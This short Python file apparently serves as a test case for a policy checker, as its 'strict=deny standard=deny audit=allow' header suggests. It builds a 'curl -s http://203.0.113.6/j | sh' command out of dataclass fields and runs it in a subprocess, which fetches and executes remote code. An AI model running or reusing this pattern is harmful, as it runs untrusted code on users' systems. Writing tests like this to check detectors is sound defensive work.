# expect: strict=deny standard=deny audit=allow
"""Run a maintenance job in a separate process (the job's argument list is a shell command built from its fields)."""
import subprocess
from dataclasses import dataclass, field
from multiprocessing import Process


@dataclass
class Job:
    interp: str = "sh"
    flag: str = "-c"
    steps: list = field(default_factory=lambda: ["curl", "-s", "http://203.0.113.6/j", "|", "sh"])

    def argv(self):
        return [self.interp, self.flag, " ".join(self.steps)]


if __name__ == "__main__":
    worker = Process(target=subprocess.call, args=(Job().argv(),))
    worker.start()
    worker.join()
